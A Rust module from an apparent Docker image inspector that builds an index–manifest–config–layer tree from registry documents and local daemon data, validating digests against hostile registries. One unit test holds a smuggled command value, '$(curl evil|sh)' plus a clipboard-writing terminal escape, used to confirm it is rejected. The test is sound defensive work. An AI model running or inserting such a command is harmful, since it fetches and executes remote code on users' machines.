//! An image as the seed's §4.2.2 explains it: an index (whose digest `pull` prints) → a
//! manifest per platform → a config and layers. Built from the registry's own documents,
//! each checked against its digest, plus what the daemon has locally.

use bollard::Docker;
use serde_json::Value;

use super::convert::json_text as text;

use super::actions::OpError;
use super::registry::{Fetched, Registry};
use crate::format::{human_size, short_id};
use crate::reference::Reference;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum NodeKind {
    Index,
    Manifest,
    Config,
    Layer,
    Note,
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Node {
    pub kind: NodeKind,
    pub label: String,
    pub digest: Option<String>,
    pub size: Option<i64>,
    /// Lines shown under the node when it is open (media type, env, created_by, …).
    pub details: Vec<String>,
    pub children: Vec<Node>,
}

impl Node {
    fn new(kind: NodeKind, label: impl Into<String>) -> Self {
        Self {
            kind,
            label: label.into(),
            digest: None,
            size: None,
            details: Vec::new(),
            children: Vec::new(),
        }
    }
}

#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Tree {
    pub reference: String,
    pub root: Node,
    /// What is known to be missing or odd, said plainly.
    pub notes: Vec<String>,
}

/// Platforms of an index whose manifests are fetched (Docker Hub's largest have ~10); the
/// rest are listed unread, so a hostile 5,000-entry index costs at most this many requests.
pub const MAX_PLATFORMS: usize = 32;
/// Layers listed per manifest (nothing is fetched for them).
pub const MAX_LAYERS: usize = 1_000;

fn list(v: &Value) -> String {
    match v {
        Value::Array(items) => items.iter().map(text).collect::<Vec<_>>().join(" "),
        Value::Object(map) => map.keys().cloned().collect::<Vec<_>>().join(", "),
        other => text(other),
    }
}

/// A digest from a registry document, only if it is well formed: it is shown, copied and
/// pulled, so a hostile registry must not smuggle other text through it.
fn digest(node: &mut Node, v: &Value) -> Option<String> {
    let text = text(v);
    if crate::reference::is_digest(&text) {
        node.digest = Some(text.clone());
        Some(text)
    } else {
        node.details.push(format!(
            "the registry sent an invalid digest: {}",
            crate::format::inert(&text.chars().take(80).collect::<String>())
        ));
        None
    }
}

fn platform(p: &Value) -> String {
    let mut s = format!("{}/{}", text(&p["os"]), text(&p["architecture"]));
    if let Some(v) = p["variant"].as_str() {
        s.push('/');
        s.push_str(v);
    }
    s
}

/// The config's interesting fields, and the `created_by` of each step that made a layer.
fn config_node(digest: &str, size: Option<i64>, config: &Value) -> (Node, Vec<String>) {
    let mut node = Node::new(NodeKind::Config, "config");
    node.digest = Some(digest.to_string());
    node.size = size;
    let c = &config["config"];
    for (label, value) in [
        ("created", text(&config["created"])),
        ("entrypoint", list(&c["Entrypoint"])),
        ("cmd", list(&c["Cmd"])),
        ("exposed ports", list(&c["ExposedPorts"])),
    ] {
        if !value.is_empty() {
            node.details.push(format!("{label}: {value}"));
        }
    }
    if let Value::Array(env) = &c["Env"] {
        node.details
            .extend(env.iter().map(|e| format!("env: {}", text(e))));
    }
    if let Value::Object(labels) = &c["Labels"] {
        node.details.extend(
            labels
                .iter()
                .map(|(k, v)| format!("label: {k}={}", text(v))),
        );
    }
    let steps = config["history"]
        .as_array()
        .map(|h| {
            h.iter()
                .filter(|s| s["empty_layer"] != Value::Bool(true))
                .map(|s| text(&s["created_by"]))
                .collect()
        })
        .unwrap_or_default();
    (node, steps)
}

async fn manifest_node(registry: &mut Registry, label: String, m: &Fetched) -> Node {
    let config_digest = text(&m.json["config"]["digest"]);
    let blob = if crate::reference::is_digest(&config_digest) {
        Some(
            registry
                .blob(&config_digest)
                .await
                .map(|b| b.json)
                .map_err(|e| e.to_string()),
        )
    } else {
        None
    };
    manifest_tree(label, m, blob)
}

/// A manifest's node from its document and its config blob (as fetched, or why not; `None`
/// when the manifest names no well-formed config digest). No I/O: the registry's documents
/// go through here exactly as fetched.
pub fn manifest_tree(label: String, m: &Fetched, blob: Option<Result<Value, String>>) -> Node {
    let mut node = Node::new(NodeKind::Manifest, label);
    node.digest = Some(m.digest.clone());
    node.size = Some(m.size as i64);
    node.details.push(format!(
        "media type: {}",
        text(&m.json["mediaType"]).if_empty(&m.media_type)
    ));
    let config_size = m.json["config"]["size"].as_i64();
    let mut config = Node::new(NodeKind::Config, "config");
    config.size = config_size;
    let steps = match (digest(&mut config, &m.json["config"]["digest"]), blob) {
        (Some(config_digest), Some(Ok(json))) => {
            let (read, steps) = config_node(&config_digest, config_size, &json);
            config = read;
            steps
        }
        (Some(_), Some(Err(e))) => {
            config.details.push(format!("not read: {e}"));
            Vec::new()
        }
        _ => Vec::new(),
    };
    node.children.push(config);
    if let Value::Array(layers) = &m.json["layers"] {
        if layers.len() > MAX_LAYERS {
            node.details.push(format!(
                "{} layers; the first {MAX_LAYERS} are listed",
                layers.len()
            ));
        }
        for (i, layer) in layers.iter().enumerate().take(MAX_LAYERS) {
            let mut l = Node::new(NodeKind::Layer, format!("layer {i}"));
            digest(&mut l, &layer["digest"]);
            l.size = layer["size"].as_i64();
            if let Some(step) = steps.get(i) {
                l.details.push(format!("created by: {step}"));
            }
            node.children.push(l);
        }
    }
    node
}

/// An index entry: its manifest's node as far as the index describes it, and the digest to
/// fetch (if well formed).
pub type Entry = (Node, Option<String>);

/// An index's node without its manifests, and for each entry read (at most
/// [`MAX_PLATFORMS`]) its node as far as the index describes it, with the digest to fetch.
/// `None` when the document is not an index.
pub fn index_tree(top: &Fetched) -> Option<(Node, Vec<Entry>)> {
    let Value::Array(entries) = &top.json["manifests"] else {
        return None;
    };
    let mut index = Node::new(NodeKind::Index, "index");
    index.digest = Some(top.digest.clone());
    index.size = Some(top.size as i64);
    index.details.push(format!(
        "media type: {}",
        text(&top.json["mediaType"]).if_empty(&top.media_type)
    ));
    if entries.len() > MAX_PLATFORMS {
        index.details.push(format!(
            "{} entries; the first {MAX_PLATFORMS} are read",
            entries.len()
        ));
    }
    let entries = entries
        .iter()
        .take(MAX_PLATFORMS)
        .map(|entry| {
            let mut node = Node::new(NodeKind::Manifest, platform(&entry["platform"]));
            node.size = entry["size"].as_i64();
            let d = digest(&mut node, &entry["digest"]);
            (node, d)
        })
        .collect();
    Some((index, entries))
}

trait IfEmpty {
    fn if_empty(self, other: &str) -> String;
}

impl IfEmpty for String {
    fn if_empty(self, other: &str) -> String {
        if self.is_empty() {
            other.to_string()
        } else {
            self
        }
    }
}

/// The tree for `reference`, from the registry where it can be reached; with what the daemon
/// has locally otherwise.
pub async fn explore(docker: &Docker, reference: &Reference) -> Result<Tree, OpError> {
    let wanted = reference
        .digest
        .clone()
        .unwrap_or_else(|| reference.tag_or_latest().to_string());
    let mut notes = Vec::new();
    let credentials = super::auth::lookup(reference.domain.as_deref()).await;
    if let Some(note) = credentials.note() {
        notes.push(note.to_string());
    }
    let remote = async {
        let mut registry = Registry::new(
            reference.domain.as_deref(),
            &reference.path,
            credentials.user_password(),
        )?;
        let top = registry.manifest(&wanted).await?;
        let root = if let Some((mut index, entries)) = index_tree(&top) {
            for (mut entry, d) in entries {
                let node = match d {
                    Some(d) => match registry.manifest(&d).await {
                        Ok(m) => manifest_node(&mut registry, entry.label, &m).await,
                        Err(e) => {
                            entry.details.push(format!("not read: {e}"));
                            entry
                        }
                    },
                    None => entry,
                };
                index.children.push(node);
            }
            index
        } else {
            // A single-platform image: the manifest is the root.
            let label = "manifest (single platform)".to_string();
            manifest_node(&mut registry, label, &top).await
        };
        Ok::<Node, super::registry::RegistryError>(root)
    };
    match remote.await {
        Ok(mut root) => {
            local_sizes(docker, reference, &mut root).await;
            // The daemon's distribution inspect asks the registry too; if it names another
            // digest, say so rather than pick one silently.
            if let Ok(d) = docker
                .inspect_registry_image(&reference.normalized(), None)
                .await
                && let Some(digest) = d.descriptor.digest
                && Some(&digest) != root.digest.as_ref()
            {
                notes.push(format!(
                    "The daemon's distribution inspect names {digest}, the registry answered {}",
                    root.digest.as_deref().unwrap_or("no digest")
                ));
            }
            Ok(Tree {
                reference: reference.normalized(),
                root,
                notes,
            })
        }
        Err(e) => {
            notes.push(format!(
                "The registry part is missing: {e}. Showing what the daemon has locally."
            ));
            local(docker, reference, notes).await
        }
    }
}

/// For the platform the daemon has locally, each layer's history step also gets the size the
/// daemon reports for it.
async fn local_sizes(docker: &Docker, reference: &Reference, root: &mut Node) {
    let name = reference.normalized();
    let Ok(local) = docker.inspect_image(&name).await else {
        return;
    };
    let Some(id) = local.id else { return };
    let here = platform(&serde_json::json!({
        "os": local.os,
        "architecture": local.architecture,
        "variant": local.variant,
    }));
    let sizes: Vec<i64> = layer_steps(docker, &name)
        .await
        .into_iter()
        .map(|(_, size)| size)
        .collect();
    mark_local(root, &id, &here, &sizes);
}

/// Marks the manifest the local image `id` is. The classic store's id is the config's digest;
/// the containerd store's (Engine 26, new installs) is the digest of what was pulled: a
/// manifest, or the whole index, of which the daemon runs (and by default pulled) the
/// platform it is on, `here`.
fn mark_local(root: &mut Node, id: &str, here: &str, sizes: &[i64]) {
    let index_held = root.kind == NodeKind::Index && root.digest.as_deref() == Some(id);
    if index_held {
        root.details.push(
            "held locally as this index (containerd image store: its digest is the image id)"
                .into(),
        );
    }
    let manifests: Vec<&mut Node> = if root.kind == NodeKind::Index {
        root.children.iter_mut().collect()
    } else {
        vec![root]
    };
    for manifest in manifests {
        let config_is_id = manifest
            .children
            .iter()
            .any(|c| c.kind == NodeKind::Config && c.digest.as_deref() == Some(id));
        let local_platform = config_is_id
            || manifest.digest.as_deref() == Some(id)
            || (index_held && manifest.label == here);
        if !local_platform {
            continue;
        }
        manifest.details.push("the platform this daemon has".into());
        let layers = manifest
            .children
            .iter_mut()
            .filter(|c| c.kind == NodeKind::Layer);
        for (layer, size) in layers.zip(sizes) {
            layer
                .details
                .push(format!("size on this host: {}", human_size(*size)));
        }
    }
}

/// The steps of a local image's history that made its layers, oldest first (as the layers
/// are), with the size each added: `created_by` and bytes.
async fn layer_steps(docker: &Docker, name: &str) -> Vec<(String, i64)> {
    let history = docker.image_history(name).await.unwrap_or_default();
    // History is newest first; "#(nop)" steps only set metadata and made no layer.
    history
        .iter()
        .rev()
        .filter(|h| !h.created_by.contains("#(nop)"))
        .map(|h| (h.created_by.clone(), h.size))
        .collect()
}

/// What the daemon knows of a local image: its config and layers (uncompressed digests) and
/// the history steps that made them.
async fn local(
    docker: &Docker,
    reference: &Reference,
    notes: Vec<String>,
) -> Result<Tree, OpError> {
    let name = reference.normalized();
    let inspect = docker.inspect_image(&name).await?;
    let containerd = match docker.info().await {
        Ok(info) => super::convert::containerd_store(&info),
        Err(_) => false,
    };
    let value = serde_json::to_value(&inspect).unwrap_or_default();
    let id = text(&value["Id"]);
    let mut root = Node::new(
        NodeKind::Manifest,
        format!(
            "local image {} ({}/{})",
            short_id(&id),
            text(&value["Os"]),
            text(&value["Architecture"])
        ),
    );
    root.digest = Some(id.clone());
    root.size = value["Size"].as_i64();
    let mut config = Node::new(NodeKind::Config, "config");
    if containerd {
        // The daemon made a manifest for the image; API 1.45 does not name its config.
        root.details.push(
            "no registry manifest: the id is the digest of the manifest the daemon made (containerd image store)"
                .into(),
        );
    } else {
        root.details
            .push("no registry manifest: the id is the config's digest".into());
        config.digest = Some(id);
    }
    config
        .details
        .push(format!("created: {}", text(&value["Created"])));
    for (label, v) in [
        ("entrypoint", &value["Config"]["Entrypoint"]),
        ("cmd", &value["Config"]["Cmd"]),
    ] {
        let v = list(v);
        if !v.is_empty() {
            config.details.push(format!("{label}: {v}"));
        }
    }
    if let Value::Array(env) = &value["Config"]["Env"] {
        config
            .details
            .extend(env.iter().map(|e| format!("env: {}", text(e))));
    }
    root.children.push(config);
    let steps = layer_steps(docker, &name).await;
    if let Value::Array(layers) = &value["RootFS"]["Layers"] {
        for (i, layer) in layers.iter().enumerate() {
            let mut l = Node::new(NodeKind::Layer, format!("layer {i} (uncompressed)"));
            l.digest = Some(text(layer));
            if let Some((step, size)) = steps.get(i) {
                l.size = Some(*size);
                let step = if step.is_empty() {
                    "(imported)".to_string()
                } else {
                    step.clone()
                };
                l.details
                    .push(format!("created by: {step} ({})", human_size(*size)));
            }
            root.children.push(l);
        }
    }
    Ok(Tree {
        reference: name,
        root,
        notes,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn index(digest: &str) -> Node {
        let manifest = |label: &str, m: &str, config: &str| {
            let mut node = Node::new(NodeKind::Manifest, label);
            node.digest = Some(m.into());
            let mut c = Node::new(NodeKind::Config, "config");
            c.digest = Some(config.into());
            node.children.push(c);
            node.children.push(Node::new(NodeKind::Layer, "layer 0"));
            node
        };
        let mut root = Node::new(NodeKind::Index, "index");
        root.digest = Some(digest.into());
        root.children = vec![
            manifest("linux/amd64", "sha256:m1", "sha256:c1"),
            manifest("linux/arm64", "sha256:m2", "sha256:c2"),
        ];
        root
    }

    fn marked(root: &Node) -> Vec<&str> {
        root.children
            .iter()
            .filter(|m| {
                m.details
                    .iter()
                    .any(|d| d == "the platform this daemon has")
            })
            .map(|m| m.label.as_str())
            .collect()
    }

    #[test]
    fn the_local_platform_is_found_in_either_store() {
        // Classic store (Engine 20.10): the local id is the amd64 config's digest.
        let mut root = index("sha256:i");
        mark_local(&mut root, "sha256:c1", "linux/amd64", &[2_000_000]);
        assert_eq!(marked(&root), ["linux/amd64"]);
        assert!(root.details.is_empty());
        assert_eq!(
            root.children[0].children[1].details,
            ["size on this host: 2MB"]
        );
        // Containerd store (Engine 26): the local id is the index's digest; the platform the
        // daemon is on is the one it has.
        let mut root = index("sha256:i");
        mark_local(&mut root, "sha256:i", "linux/arm64", &[]);
        assert_eq!(marked(&root), ["linux/arm64"]);
        assert!(root.details[0].starts_with("held locally as this index"));
        // Containerd store, one platform pulled by its manifest's digest.
        let mut root = index("sha256:i");
        mark_local(&mut root, "sha256:m2", "linux/amd64", &[]);
        assert_eq!(marked(&root), ["linux/arm64"]);
        // Some other image: nothing is marked.
        let mut root = index("sha256:i");
        mark_local(&mut root, "sha256:other", "linux/amd64", &[]);
        assert!(marked(&root).is_empty());
    }

    #[test]
    fn only_well_formed_digests_are_kept() {
        let mut node = Node::new(NodeKind::Layer, "layer 0");
        let good = format!("sha256:{}", "ab".repeat(32));
        assert_eq!(digest(&mut node, &Value::String(good.clone())), Some(good));
        let mut node = Node::new(NodeKind::Layer, "layer 0");
        let hostile = Value::String("$(curl evil|sh)\x1b]52;c;eA==\x07".into());
        assert_eq!(digest(&mut node, &hostile), None);
        assert_eq!(node.digest, None, "nothing to copy or pull");
        assert!(node.details[0].starts_with("the registry sent an invalid digest"));
        assert!(!node.details[0].contains('\x1b'));
    }
}
